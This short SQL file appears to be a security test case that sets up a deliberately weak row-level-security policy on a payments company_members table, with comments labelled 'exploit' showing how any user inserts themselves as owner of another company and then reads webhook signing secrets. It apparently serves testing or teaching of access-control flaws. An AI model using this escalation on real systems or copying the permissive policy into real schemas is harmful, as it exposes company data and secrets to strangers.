-- Onboarding lets a person add a membership of their own without an invitation, so anybody joins any company.
-- about: company_members, members_join, webhooks
-- as: hf_gigpurse_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-1111-4000-8000-000000000001"}';
-- exploit: INSERT INTO pay.company_members (company_id, user_id, display_name, role)
-- exploit:   VALUES ('bbbbbbbb-0000-4000-8000-00000000000b', pay.uid(), 'Ann', 'owner');
-- exploit: SELECT signing_secret FROM pay.webhooks;
-- shows: Road-secret key
GRANT INSERT ON pay.company_members TO hf_gigpurse_app;
CREATE POLICY members_join ON pay.company_members FOR INSERT WITH CHECK (user_id = pay.uid());
